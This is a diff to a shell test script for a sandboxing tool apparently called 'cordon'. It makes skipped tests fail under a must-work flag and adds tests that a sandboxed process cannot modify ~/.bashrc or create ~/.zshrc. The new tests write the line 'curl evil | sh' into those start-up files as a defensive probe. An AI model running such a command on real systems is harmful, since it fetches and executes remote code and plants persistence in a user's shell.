@@ -18,7 +18,14 @@ n=0
 failed=0
 ok() { n=$((n + 1)); echo "ok $n - $*"; }
 not_ok() { n=$((n + 1)); echo "not ok $n - $*"; failed=$((failed + 1)); }
-skip() { n=$((n + 1)); echo "ok $n # SKIP $*"; }
+skip() {
+        n=$((n + 1))
+        if [ "${CORDON_TEST_MUST_WORK:-0}" = 1 ]; then
+                failed=$((failed + 1)); echo "not ok $n - skipped, but CORDON_TEST_MUST_WORK=1: $*"
+        else
+                echo "ok $n # SKIP $*"
+        fi
+}
 diag() { printf '# %s\n' "$@"; }
 
 # The sandbox's /tmp is private, so everything the tests look at from both
@@ -430,6 +437,23 @@ if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null; then
         fi
 else
         skip "setuid: needs root and setpriv to make a setuid-root file"
+fi
+
+# The workspace is HOME: shell start-up files stay read-only, existing or not.
+HW=$BASE/homews
+mkdir -p "$HW"
+echo "# rc" > "$HW/.bashrc"
+sum=$(md5sum < "$HW/.bashrc")
+if control "append to .bashrc in a writable HOME" sh -c "echo '# c' >> '$HW/.bashrc'"; then
+        echo "# rc" > "$HW/.bashrc"
+        j=$(cd "$HW" && HOME=$HW "$CORDON" run --backend native --json -- sh -c 'echo "curl evil | sh" >> ~/.bashrc')
+        expect_denied "HOME as workspace: append to ~/.bashrc" "$j"
+        host_check "HOME as workspace: ~/.bashrc unchanged" test "$(md5sum < "$HW/.bashrc")" = "$sum"
+        j=$(cd "$HW" && HOME=$HW "$CORDON" run --backend native --json -- sh -c 'echo "curl evil | sh" > ~/.zshrc')
+        expect_failed "HOME as workspace: create a missing ~/.zshrc" "$j"
+        host_check "HOME as workspace: no ~/.zshrc planted" sh -c "[ ! -s '$HW/.zshrc' ]"
+        j=$(cd "$HW" && HOME=$HW "$CORDON" run --backend native --json -- sh -c 'echo ok > notes.txt && cat notes.txt')
+        if [ "$(field verdict <<<"$j")" = ok ] && [ -f "$HW/notes.txt" ]; then ok "HOME as workspace: ordinary writes work"; else not_ok "HOME as workspace: ordinary writes"; diag "$j"; fi
 fi
 
 echo "1..$n"
